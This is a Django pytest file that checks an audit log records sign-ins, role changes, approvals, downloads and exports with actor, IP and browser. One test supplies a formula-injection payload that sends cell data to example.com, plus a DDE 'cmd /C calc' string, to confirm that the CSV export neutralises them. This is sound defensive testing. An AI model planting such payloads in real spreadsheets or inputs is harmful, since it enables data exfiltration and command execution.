"""Every kind of event lands in the log with who, when and from where."""

from __future__ import annotations

from typing import Any, TypedDict

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse

from phoihop.accounts.services import membership_remove, membership_save, user_save
from phoihop.audit.middleware import current_request
from phoihop.audit.models import AuditEvent
from phoihop.audit.services import record
from phoihop.orgs.models import Membership

A = AuditEvent.Action


class RequestMeta(TypedDict):
    REMOTE_ADDR: str
    HTTP_USER_AGENT: str


FROM: RequestMeta = {"REMOTE_ADDR": "203.0.113.7", "HTTP_USER_AGENT": "Trình duyệt thử/1.0"}


def last(action: str) -> AuditEvent:
    event = AuditEvent.objects.filter(action=action).order_by("-id").first()
    assert event is not None, f"no {action} event"
    return event


def test_sign_in_is_logged_with_ip_and_browser(client: Any, users: dict[str, Any]) -> None:
    response = client.post(reverse("accounts:login"), {"username": "alice", "password": "matkhau-123"}, **FROM)
    assert response.status_code == 302
    event = last(A.SIGN_IN)
    assert event.actor == users["alice"] and event.actor_label == "alice"
    assert event.ip_address == "203.0.113.7"
    assert event.user_agent == "Trình duyệt thử/1.0"
    assert event.organization_label == "Ban Chỉ huy Quân sự Quận 4"


def test_failed_sign_in_is_logged_without_the_password(client: Any, users: dict[str, Any]) -> None:
    client.post(reverse("accounts:login"), {"username": "alice", "password": "sai-mat-khau-bi-mat"}, **FROM)
    event = last(A.SIGN_IN_FAILED)
    assert event.actor is None
    assert event.subject_user == users["alice"]
    assert event.detail == "alice"
    assert event.ip_address == "203.0.113.7"
    assert not AuditEvent.objects.filter(detail__contains="sai-mat-khau").exists()


def test_sign_out_is_logged(client: Any, users: dict[str, Any]) -> None:
    client.force_login(users["bob"])
    client.post(reverse("accounts:logout"), **FROM)
    event = last(A.SIGN_OUT)
    assert event.actor == users["bob"] and event.ip_address == "203.0.113.7"


def test_role_changes_say_who_changed_whose_role_from_what_to_what(users: dict[str, Any], orgs: dict[str, Any]) -> None:
    request = RequestFactory().post("/quan-tri/", **FROM)
    request.user = users["staff"]
    token = current_request.set(request)
    try:
        membership = Membership.objects.get(user=users["bob"], organization=orgs["district"])
        membership.role = Membership.Role.LEADER
        membership_save(actor=users["staff"], membership=membership)
        event = last(A.PERMISSION_CHANGE)
        assert event.actor == users["staff"]
        assert event.subject_user == users["bob"]
        assert event.organization == orgs["district"]
        assert event.detail == "bob: Chỉ xem → Lãnh đạo"
        assert event.ip_address == "203.0.113.7"

        membership_remove(actor=users["staff"], membership=membership)
        assert last(A.PERMISSION_CHANGE).detail == "bob: Lãnh đạo → —"

        ward = Membership(user=users["bob"], organization=orgs["ward"], role=Membership.Role.ADMIN)
        membership_save(actor=users["staff"], membership=ward)
        assert last(A.PERMISSION_CHANGE).detail == "bob: — → Quản trị đơn vị"

        users["charlie"].is_staff = True
        user_save(actor=users["staff"], user=users["charlie"])
        assert "is_staff: False → True" in last(A.PERMISSION_CHANGE).detail
    finally:
        current_request.reset(token)


def test_saving_a_membership_without_a_change_logs_nothing(users: dict[str, Any], orgs: dict[str, Any]) -> None:
    before = AuditEvent.objects.count()
    membership = Membership.objects.get(user=users["bob"], organization=orgs["district"])
    membership_save(actor=users["staff"], membership=membership)
    assert AuditEvent.objects.count() == before


def test_approving_and_returning_are_logged(client: Any, users: dict[str, Any], orgs: dict[str, Any], submitted_activity: Any) -> None:
    client.force_login(users["leader"])
    response = client.post(reverse("activities:return", args=[submitted_activity.pk]), {"note": "Bổ sung số liệu"}, **FROM)
    assert response.status_code in (200, 302)
    event = last(A.ACTIVITY_RETURN)
    assert event.actor == users["leader"]
    assert event.organization == orgs["district"]
    assert event.object_repr == "Tuyên truyền Luật Nghĩa vụ quân sự"
    assert event.detail == "Bổ sung số liệu"
    assert event.ip_address == "203.0.113.7"

    from phoihop.activities.services import activity_approve, activity_submit

    submitted_activity.refresh_from_db()
    activity_submit(actor=users["alice"], activity=submitted_activity)
    activity_approve(actor=users["leader"], activity=submitted_activity)
    event = last(A.ACTIVITY_APPROVE)
    assert event.actor == users["leader"] and event.object_id == str(submitted_activity.pk)


def test_submitting_is_not_an_approval(users: dict[str, Any], submitted_activity: Any) -> None:
    assert not AuditEvent.objects.filter(action__in=[A.ACTIVITY_APPROVE, A.ACTIVITY_RETURN]).exists()


def test_a_download_is_logged_with_the_record_s_organisation(users: dict[str, Any], orgs: dict[str, Any], agreement: Any) -> None:
    from phoihop.attachments.services import attachment_add

    pdf = SimpleUploadedFile("ban-ky.pdf", b"%PDF-1.4\n% test\n", content_type="application/pdf")
    attachment = attachment_add(actor=users["alice"], owner=agreement, upload=pdf, kind="signed_scan")
    request = RequestFactory().get("/tep/1/", **FROM)
    request.user = users["coop_officer"]
    token = current_request.set(request)
    try:
        event = record("document_download", obj=attachment)
    finally:
        current_request.reset(token)
    assert event.actor == users["coop_officer"]
    assert event.ip_address == "203.0.113.7"
    assert event.organization == orgs["district"]  # the lead party of the agreement
    assert event.object_repr == "ban-ky.pdf"


def test_the_attachment_download_view_logs_once_wired(client: Any, users: dict[str, Any], agreement: Any) -> None:
    import inspect

    from phoihop.attachments import views as attachment_views

    if "document_download" not in inspect.getsource(attachment_views.attachment_download).lower():
        pytest.skip("attachments/views.py attachment_download does not call audit.record yet (lead applies it)")
    from phoihop.attachments.services import attachment_add

    pdf = SimpleUploadedFile("ban-ky.pdf", b"%PDF-1.4\n% test\n", content_type="application/pdf")
    attachment = attachment_add(actor=users["alice"], owner=agreement, upload=pdf, kind="signed_scan")
    client.force_login(users["bob"])
    assert client.get(reverse("core:attachment_download", args=[attachment.pk]), **FROM).status_code == 200
    event = last(A.DOCUMENT_DOWNLOAD)
    assert event.actor == users["bob"] and event.ip_address == "203.0.113.7"


def test_exporting_the_log_is_itself_logged(client: Any, users: dict[str, Any]) -> None:
    client.force_login(users["staff"])
    response = client.get(reverse("audit:log_export"), {"action": "sign_in"}, **FROM)
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert body.splitlines()[0].startswith('"Thời điểm","Hành động"')
    assert "Đăng nhập" in body
    event = last(A.EXPORT)
    assert event.actor == users["staff"] and event.ip_address == "203.0.113.7"
    assert '"action": "sign_in"' in event.detail


def test_the_exported_log_keeps_typed_names_and_browsers_from_running_as_formulas(client: Any, users: dict[str, Any]) -> None:
    import csv
    import io

    name = '=HYPERLINK("http://example.com/?"&A1,"Mở")'
    agent = "=cmd|' /C calc'!A0"
    client.post(reverse("accounts:login"), {"username": name, "password": "x"}, REMOTE_ADDR="203.0.113.9", HTTP_USER_AGENT=agent)
    assert last(A.SIGN_IN_FAILED).detail == name  # the log itself keeps what was typed
    client.force_login(users["staff"])
    body = b"".join(client.get(reverse("audit:log_export"), {"action": "sign_in_failed"}).streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    row = next(r for r in rows if r[-2] == "203.0.113.9")
    assert row[5] == "'" + name and row[7] == "'" + agent
    cells = [cell for r in rows for cell in r]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_outside_a_request_the_actor_is_given_or_empty(users: dict[str, Any]) -> None:
    assert record("export", detail="lệnh quản trị").actor is None
    event = record("export", actor=users["alice"])
    assert event.actor == users["alice"] and event.ip_address is None


def test_an_unknown_action_is_refused(users: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        record("delete_everything")


def test_every_action_has_a_test_above() -> None:
    source = open(__file__, encoding="utf-8").read()
    untested = [a for a in A if f"A.{a.name}" not in source and f'"{a.value}"' not in source]
    # personal-data actions are covered in test_personal_data.py, numbers issued out of sequence
    # in documents/tests/test_services.py (where the number series lives), the API's tokens in
    # accounts/tests/test_api_tokens.py and api/tests/test_auth.py
    api = {A.API_TOKEN_CREATE, A.API_TOKEN_REVOKE, A.API_TOKEN_USE, A.API_WRITE}
    assert set(untested) <= {A.PERSONAL_DATA_EXPORT, A.PERSON_ANONYMISE, A.NUMBER_OUT_OF_SEQUENCE, *api}, untested
